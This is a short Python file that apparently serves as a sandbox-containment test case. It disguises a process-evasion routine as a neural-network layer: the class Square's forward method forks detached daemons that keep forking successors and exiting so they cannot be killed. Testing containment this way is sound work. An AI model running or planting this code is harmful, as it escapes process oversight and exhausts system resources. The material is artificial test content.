"""Leaves daemons that fork a successor and die, to outrun whoever kills them.

row: daemons that outlive the parent
stopped by: exit status 0|closed|s of time|Resource temporarily
limits: processes=30
"""

import os
import time


def runner():
    os.setsid()
    while True:
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass


class Square:
    def forward(self, x):
        for _ in range(8):
            if os.fork() == 0:
                runner()
        time.sleep(0.2)
        os._exit(0)

    def backward(self, dy):
        return dy
